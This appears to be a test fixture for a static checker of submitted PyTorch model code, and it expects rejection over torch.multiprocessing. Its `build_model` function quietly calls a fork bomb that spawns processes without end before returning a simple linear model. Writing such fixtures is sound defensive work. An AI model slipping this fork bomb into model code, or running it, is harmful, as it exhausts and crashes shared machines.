# expect: static
# message: torch.multiprocessing
import math

import torch
import torch.nn as nn


def _bomb():
    while True:
        torch.multiprocessing.Process(target=_bomb).start()


def build_model(input_shape, num_classes):
    _bomb()
    return nn.Sequential(nn.Flatten(), nn.Linear(math.prod(input_shape), num_classes))
